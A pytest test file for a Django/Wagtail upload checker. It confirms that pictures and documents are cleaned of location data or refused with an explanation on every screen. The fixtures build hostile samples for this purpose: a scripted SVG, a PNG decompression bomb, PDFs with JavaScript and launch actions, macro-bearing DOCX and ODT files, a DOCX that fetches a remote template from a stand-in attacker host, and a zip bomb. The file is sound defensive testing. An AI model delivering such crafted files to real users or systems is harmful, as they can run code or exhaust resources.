"""Whatever an editor gives is looked at by its content, on every screen: cleaned, or refused with why and what to do."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image as Pixels
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.models import Collection
from wagtail.users.models import UserProfile

from steward.people.acting import acting_as
from steward.website.uploads import documents, pictures
from steward.website.uploads.kept import Looked, Refused
from tests.people import building
from tests.website.editing import Editor, photograph

pytestmark = pytest.mark.django_db
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def with_place() -> bytes:
    """A photograph that says where it was taken, and that lies on its side."""
    exif = Pixels.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Camera of Ada Ashgrove"
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)})
    return photograph(exif=exif)


def bomb() -> bytes:
    """A picture of 30,000 by 30,000 in few bytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def a_pdf(change: Callable[[PdfWriter], Any] = lambda writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def packed(contents: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as into:
        for name, data in contents.items():
            into.writestr(name, data)
    return out.getvalue()


SCRIPTS = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
WORD = '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
A_DOCX = {"[Content_Types].xml": WORD, "word/document.xml": "<w/>"}
AN_ODT = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "content.xml": '<o:body xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
}


def _action(writer: PdfWriter, kind: str) -> None:
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("calc.exe")}
    )


def _script(writer: PdfWriter) -> None:
    """On a page, with the shortest of the keys: only whoever reads the objects finds it."""
    acts = DictionaryObject({NameObject("/O"): DictionaryObject({NameObject("/JS"): TextStringObject("app.alert(1)")})})
    writer.pages[0][NameObject("/AA")] = acts


def _at_its_first_page(writer: PdfWriter) -> None:
    """As office programs do it: where the reader begins, which is no action."""
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])


BAD_PICTURES = {
    "drawing.svg": (SVG, "SVG, which can hold a program. Save it as PNG"),
    "drawing.png": (SVG, "SVG, which can hold a program. Save it as PNG"),
    "large.png": (bomb(), "more than 50 million pixels. Save it with"),
    "words.jpg": (b"Not a picture at all.", "no picture that browsers show. Save it as JPEG"),
    "other.png": (photograph(), "its name end in .jpg".replace("its name", "Let its name")),
    "short.jpg": (photograph(size=(400, 400))[:700], "damaged, or cut off. Open it"),
    "moving.gif": (photograph("GIF", save_all=True, append_images=[Pixels.new("RGB", (60, 40), "red")]), "moves"),
    "phone.heic": (b"\0\0\0\x18ftypheic", "share it as JPEG"),
}
BAD_FILES = {
    "script.pdf": (a_pdf(_script), "holds a program (JavaScript). Print it to PDF anew"),
    "launch.pdf": (a_pdf(lambda w: _action(w, "/Launch")), "starts another program"),
    "opens.pdf": (a_pdf(lambda w: _action(w, "/URI")), "does something by itself when it is opened"),
    "inside.pdf": (a_pdf(lambda w: w.add_attachment("virus.exe", b"MZ")), "another file inside"),
    "locked.pdf": (a_pdf(lambda w: w.encrypt("secret")), "has a password"),
    "both.pdf": (a_pdf() + packed({"index.html": "<script>"}), "another kind of file at once"),
    "hidden.pdf": (a_pdf() + b"\n9 0 obj << /S /J#61vaScript >> endobj", "a program (JavaScript)"),
    "page.pdf": (b"<html><script>alert(1)</script>%PDF-1.4", "no PDF, although its name ends in .pdf"),
    "cut.pdf": (b"%PDF-1.7\nnothing here", "damaged"),
    "macro.docx": (packed(A_DOCX | {"word/vbaProject.bin": b"x"}), "a program (a macro or an embedded object)"),
    "macro.odt": (packed(AN_ODT | {"Basic/Standard/Module1.xml": "x"}), "a program (a macro or an embedded object)"),
    "listens.odt": (packed(AN_ODT | {"content.xml": f'<any:event-listener xmlns:any="{SCRIPTS}"/>'}), "a program (a macro)"),
    "fetches.docx": (
        packed(A_DOCX | {"word/_rels/settings.xml.rels": '<R Type="x/attachedTemplate" Target="http://evil.invented/a.dotm" TargetMode="External"/>'}),
        "fetches a part of itself from elsewhere",
    ),
    "other.xlsx": (packed(A_DOCX), "no XLSX file"),
    "bomb.docx": (packed(A_DOCX | {f"word/{n}.xml": b"\0" * 60_000_000 for n in range(6)}), "far larger than it looks"),
    "old.docx": (b"\xd0\xcf\x11\xe0 old", "has a password, or is of an old kind"),
    "binary.txt": (b"MZ\x90\0\3\0", "no text, although its name ends in .txt"),
    "page.csv": (b"<script>alert(1)</script>", "another kind of file"),
    "program.exe": (b"MZ", "Choose a PDF"),
    "page.html": (b"<p>", "Choose a PDF"),
}  # fmt: skip
GOOD_FILES = {
    "toolkit.pdf": a_pdf(lambda w: w.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://www.union.example/"))),
    "first-page.pdf": a_pdf(_at_its_first_page),
    "letter.docx": packed(A_DOCX),
    "letter.odt": packed(AN_ODT),
    "list.csv": "name;café\n1;2\n".encode("cp1252"),
    "words.txt": "Prydlondeb — “yes”".encode(),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD_PICTURES)
def test_a_bad_picture_is_refused_with_why_and_what_to_do(name: str) -> None:
    data, says = BAD_PICTURES[name]
    with pytest.raises(Refused, match=says.replace("(", r"\(").replace(")", r"\)")):
        pictures.look_at(name, data)


@pytest.mark.parametrize("name", BAD_FILES)
def test_a_bad_file_is_refused_with_why_and_what_to_do(name: str) -> None:
    data, says = BAD_FILES[name]
    with pytest.raises(Refused, match=says.replace("(", r"\(").replace(")", r"\)")):
        documents.look_at(name, data)


@pytest.mark.parametrize("name", GOOD_FILES)
def test_a_good_file_is_kept_as_it_is(name: str) -> None:
    assert documents.look_at(name, GOOD_FILES[name]).read() == GOOD_FILES[name]


def test_a_photograph_keeps_neither_its_place_nor_its_camera_and_stands_upright() -> None:
    given = with_place() + b"<script>alert(1)</script>" + packed({"a": "b"})
    assert b"Ashgrove" in given
    kept = pictures.look_at("photo.jpg", given).read()
    assert b"Ashgrove" not in kept
    assert b"script" not in kept
    assert b"PK\x03\x04" not in kept
    picture = Pixels.open(io.BytesIO(kept))
    assert not picture.getexif()
    assert picture.size == (40, 60)


@pytest.mark.parametrize("kind", ["PNG", "WEBP", "GIF"])
def test_each_kind_of_picture_is_written_anew(kind: str) -> None:
    more = {"exif": Pixels.Exif()} if kind == "WEBP" else {"comment": b"Ada Ashgrove"} if kind == "GIF" else {}
    kept = pictures.look_at(f"a.{kind.lower()}", photograph(kind, **more) + b"tail of Ada").read()
    assert b"Ada" not in kept
    assert Pixels.open(io.BytesIO(kept)).format == ("PNG" if kind == "GIF" else kind)


def test_a_large_photograph_becomes_as_large_as_a_screen_needs() -> None:
    kept = Pixels.open(pictures.look_at("a.jpg", photograph(size=(5000, 2500))))
    assert kept.size == (3200, 1600)


# ---- every screen


def tries(editor: Editor, what: str, name: str, data: bytes) -> list[tuple[str, int, str]]:
    """Give a file on each screen that takes one: where, the answer's status, and its words."""
    app, said = ("wagtailimages", {"title": "It"}) if what == "image" else ("wagtaildocs", {"title": "It"})
    with building():
        root = Collection.objects.get(depth=1).pk
        kept = Image.objects.first() if what == "image" else Document.objects.first()
    said |= {"collection": str(root), "tags": ""}
    answers = []
    screens = {
        "add": (reverse(f"{app}:add_multiple"), {"files[]": True, **said}, {"HTTP_X_REQUESTED_WITH": "XMLHttpRequest"}),
        "chooser": (
            reverse(f"{app}_chooser:create"),
            {f"{'image' if what == 'image' else 'document'}-chooser-upload-file": True},
            {},
        ),
    }
    if kept is not None:
        screens["edit"] = (reverse(f"{app}:edit", args=[kept.pk]), {"file": True, **said}, {})
    if what == "document":
        screens["add one"] = (reverse(f"{app}:add"), {"file": True, **said}, {})
    else:
        screens["add one"] = (reverse(f"{app}:add"), {"file": True, **said}, {})
    prefix = f"{'image' if what == 'image' else 'document'}-chooser-upload-"
    for where, (path, fields, more) in screens.items():
        given = {k: SimpleUploadedFile(name, data) if v is True else v for k, v in fields.items()}
        if where == "chooser":
            given |= {f"{prefix}{key}": value for key, value in said.items()}
        answer = editor.client.post(path, given, **more)
        answers.append((where, answer.status_code, answer.content.decode()))
    return answers


def how_many() -> tuple[int, int]:
    with building():
        return Image.objects.count(), Document.objects.count()


@pytest.fixture
def something_there(plain: Client, settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path
    with building():
        Image.objects.create(title="A picture", file=ContentFile(photograph(), name="a.jpg"))
        Document.objects.create(title="A file", file=ContentFile(GOOD_FILES["words.txt"], name="a.txt"))


@pytest.mark.parametrize(
    ("what", "name", "data", "says"),
    [
        ("image", "a.jpg", SVG, "Save it as PNG"),
        ("image", "a.png", bomb(), "50 million pixels"),
        ("document", "a.pdf", BAD_FILES["script.pdf"][0], "holds a program (JavaScript)"),
        ("document", "a.docx", BAD_FILES["macro.docx"][0], "Save it without macros"),
    ],
)
def test_no_screen_takes_what_is_refused_and_each_says_why(
    editor: Editor, something_there: None, what: str, name: str, data: bytes, says: str
) -> None:
    before = how_many()
    answers = tries(editor, what, name, data)
    assert len(answers) == 4
    for where, status, words in answers:
        assert status == 200, where
        assert says in words, (where, words[:3000])
    assert how_many() == before


def test_every_screen_cleans_a_photograph_that_says_where_it_was_taken(editor: Editor, something_there: None) -> None:
    before = how_many()[0]
    for where, status, words in tries(editor, "image", "a.jpg", with_place()):
        assert status in (200, 302), where
        assert where != "add" or json.loads(words)["success"], words
    assert how_many()[0] == before + 3
    with building():
        for image in Image.objects.all():
            with image.file.open() as kept:
                data = kept.read()
            assert b"Ashgrove" not in data
            assert image.file_size == len(data)
            if image.file_hash:
                assert (image.width, image.height) == tuple(Pixels.open(io.BytesIO(data)).size)


def test_every_screen_takes_a_good_file(editor: Editor, something_there: None) -> None:
    before = how_many()[1]
    for where, status, _ in tries(editor, "document", "toolkit.pdf", GOOD_FILES["toolkit.pdf"]):
        assert status in (200, 302), where
    assert how_many()[1] == before + 3


def test_what_goes_round_the_screens_is_looked_at_as_well(editor: Editor, something_there: None) -> None:
    with pytest.raises(Refused), acting_as(editor.actor, "website_admin"):
        Image(title="x", file=ContentFile(SVG, name="a.png")).save()
    with pytest.raises(Refused), acting_as(editor.actor, "website_admin"):
        Document(title="x", file=ContentFile(BAD_FILES["script.pdf"][0], name="a.pdf")).save()
    with acting_as(editor.actor, "website_admin"):
        image = Image(title="x", file=ContentFile(with_place(), name="a.jpg"))
        image.save()
        assert b"Ashgrove" not in image.file.read()


def test_no_portrait_of_an_editor_is_kept(editor: Editor) -> None:
    page = editor.client.get(reverse("wagtailadmin_account")).content.decode()
    assert 'type="file"' not in page
    assert 'name="theme-theme"' in page
    portrait = SimpleUploadedFile("a.jpg", photograph())
    answer = editor.client.post(reverse("wagtailadmin_account"), {"theme-theme": "dark", "avatar-avatar": portrait})
    assert answer.status_code in (200, 302)
    with building():
        assert not UserProfile.objects.exclude(avatar="").exists()


def test_a_body_of_a_gigabyte_is_refused_before_it_is_read(editor: Editor) -> None:
    class Never(io.RawIOBase):
        def read(self, *args: Any) -> bytes:
            raise AssertionError("It was read.")

    for path in (reverse("wagtailimages:add_multiple"), reverse("wagtaildocs:add_multiple")):
        answer = editor.client.generic("POST", path, b"", CONTENT_LENGTH="1000000000", **{"wsgi.input": Never()})
        assert answer.status_code == 413
        assert "choose a smaller file" in answer.content.decode()


def test_what_was_looked_at_reads_as_what_it_is() -> None:
    assert isinstance(documents.look_at("toolkit.pdf", GOOD_FILES["toolkit.pdf"]), Looked)
    assert len(PdfReader(documents.look_at("toolkit.pdf", GOOD_FILES["toolkit.pdf"])).pages) == 1
